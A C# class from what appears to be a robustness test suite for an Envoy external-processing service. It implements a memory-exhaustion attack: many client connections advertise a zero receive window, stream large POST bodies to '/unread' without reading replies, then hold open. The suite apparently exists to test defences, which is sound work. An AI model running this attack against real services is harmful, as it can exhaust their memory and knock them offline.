using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.ThroughEnvoy;

/// <summary>Uploads whose answers the client never reads, so that everything between piles up.</summary>
internal sealed class EchoesNeverRead : Attack
{
    public override Attacker By => Attacker.Client;

    public override Config Config => Configs.BehindEnvoy;

    public override async Task RunAsync(Target target)
    {
        Peer[] peers = await Task.WhenAll(Enumerable.Range(0, target.Count(4, 20)).Select(_ => target.PeerAsync(receiveWindowBytes: 0)));
        await Task.WhenAll(peers.Select(async peer =>
        {
            int stream = await peer.RequestAsync([.. Http.Post("/unread"), ("content-type", "text/plain")]);
            for (int i = 0; i < target.Count(50, 500) && !peer.Gone && !peer.IsOver(stream); i++)
            {
                await peer.SendAsync(stream, new byte[16_000]);
            }
        }));
        await target.HoldAsync();
    }
}
